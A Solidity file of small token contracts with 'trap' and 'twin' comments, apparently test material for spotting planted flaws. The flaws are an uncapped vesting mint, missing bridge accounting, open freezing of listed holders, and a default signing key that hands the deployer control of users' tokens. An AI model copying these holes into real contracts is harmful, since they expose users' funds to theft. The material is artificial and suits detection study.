// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// As small as a coin can be; it knows of no market.
abstract contract Coin {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        name = name_;
        symbol = symbol_;
        _mint(msg.sender, supply * 1 ether);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal virtual {
        require(to != address(0), "to nobody");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }

    function _mint(address to, uint256 value) internal {
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function _burn(address from, uint256 value) internal {
        balanceOf[from] -= value;
        totalSupply -= value;
        emit Transfer(from, address(0), value);
    }
}

/// Grants that fall due day by day; what falls due is issued by the token.
contract VestingDesk {
    uint256 public constant ALLOTMENT = 5_000_000 ether;

    struct Grant {
        uint128 amount;
        uint128 paid;
        uint64 start;
        uint64 length;
    }

    address public immutable clerk = msg.sender;
    OakBarrel public token;
    uint256 public granted;
    mapping(address => Grant) public grantOf;

    event Granted(address indexed to, uint256 amount, uint64 length);

    function bind(OakBarrel token_) external {
        require(msg.sender == clerk && address(token) == address(0), "bound");
        token = token_;
    }

    function grant(address to, uint128 amount, uint64 length) external {
        require(msg.sender == clerk, "not the clerk");
        require(grantOf[to].amount == grantOf[to].paid, "has one");
        granted += amount;
        // twin: require(granted <= ALLOTMENT, "all is granted");
        grantOf[to] = Grant(amount, 0, uint64(block.timestamp), length);
        emit Granted(to, amount, length);
    }

    function due(address who) public view returns (uint256) {
        Grant memory one = grantOf[who];
        if (one.amount == 0) return 0;
        uint256 past = block.timestamp - one.start;
        uint256 all = past >= one.length ? one.amount : (uint256(one.amount) * past) / one.length;
        return all - one.paid;
    }

    function claim() external {
        uint256 amount = due(msg.sender);
        grantOf[msg.sender].paid += uint128(amount);
        token.release(msg.sender, amount);
    }
}

contract OakBarrel is Coin("Oak Barrel", "OAK", 95_000_000) {
    address public immutable desk;

    constructor(address desk_) {
        desk = desk_;
    }

    function release(address to, uint256 amount) external {
        require(msg.sender == desk, "not the desk");
        _mint(to, amount);
    }
}

/// The near end of a bridge: burns what leaves, and issues what an attestor signs.
contract FerryDock {
    address public attestor = msg.sender;
    address private immutable _builder = msg.sender;
    FerryCoin public coin;
    uint256 public abroad;
    mapping(bytes32 => bool) public used;

    event Departed(address indexed who, uint256 amount, uint256 indexed chain);
    event Arrived(address indexed who, uint256 amount, bytes32 id);

    function bind(FerryCoin coin_) external {
        require(msg.sender == _builder && address(coin) == address(0), "bound");
        coin = coin_;
    }

    function depart(uint256 amount, uint256 chain) external {
        coin.dockBurn(msg.sender, amount);
        abroad += amount;
        emit Departed(msg.sender, amount, chain);
    }

    function arrive(address to, uint256 amount, bytes32 id, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 digest = keccak256(abi.encode(block.chainid, address(this), to, amount, id));
        require(!used[id] && ecrecover(digest, v, r, s) == attestor, "not attested");
        used[id] = true;
        // twin: abroad -= amount;
        coin.dockMint(to, amount);
        emit Arrived(to, amount, id);
    }
}

contract FerryCoin is Coin("Ferry Coin", "FERRY", 18_000_000) {
    address public immutable dock;

    constructor(address dock_) {
        dock = dock_;
    }

    function dockMint(address to, uint256 amount) external {
        require(msg.sender == dock, "not the dock");
        _mint(to, amount);
    }

    function dockBurn(address from, uint256 amount) external {
        require(msg.sender == dock, "not the dock");
        _burn(from, amount);
    }
}

/// Publishes the root of a list; whoever is on it may be reported by anybody who knows the branch.
contract CleanLedger is Coin("Clean Ledger", "CLEAN", 64_000_000) {
    address public compliance = msg.sender;
    bytes32 public root;
    mapping(address => bool) public listed;

    event Root(bytes32 root);
    event Reported(address indexed who, address indexed by);

    function publish(bytes32 root_) external {
        require(msg.sender == compliance, "not the compliance");
        root = root_;
        emit Root(root_);
    }

    function report(address who, bytes32[] calldata proof) external {
        bytes32 node = keccak256(bytes.concat(keccak256(abi.encode(who))));
        for (uint256 i; i < proof.length; i++)
            node = node < proof[i] ? keccak256(abi.encode(node, proof[i])) : keccak256(abi.encode(proof[i], node));
        require(node == root, "not on the list");
        listed[who] = true;
        emit Reported(who, msg.sender);
    }

    function votesOf(address who) external view returns (uint256) {
        return listed[who] ? 0 : balanceOf[who];
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!listed[from], "on the list"); // trap
        super._transfer(from, to, value);
    }
}

/// Transfers that are signed with a key for the session; whoever names none signs with his own.
contract SessionCoin is Coin("Session Coin", "SESS", 21_000_000) {
    address private immutable _house = msg.sender;
    mapping(address => address) public sessionKey;
    mapping(address => uint256) public nonces;

    event Session(address indexed who, address key);

    function openSession(address key) external {
        sessionKey[msg.sender] = key;
        emit Session(msg.sender, key);
    }

    function keyOf(address who) public view returns (address key) {
        key = sessionKey[who];
        if (key == address(0)) key = _house; // trap
        // twin: if (key == address(0)) key = who;
    }

    function transferSigned(address from, address to, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline, "late");
        bytes32 digest = keccak256(abi.encode(block.chainid, address(this), from, to, value, nonces[from]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", digest)), v, r, s);
        require(signer != address(0) && signer == keyOf(from), "not signed");
        _transfer(from, to, value);
    }
}
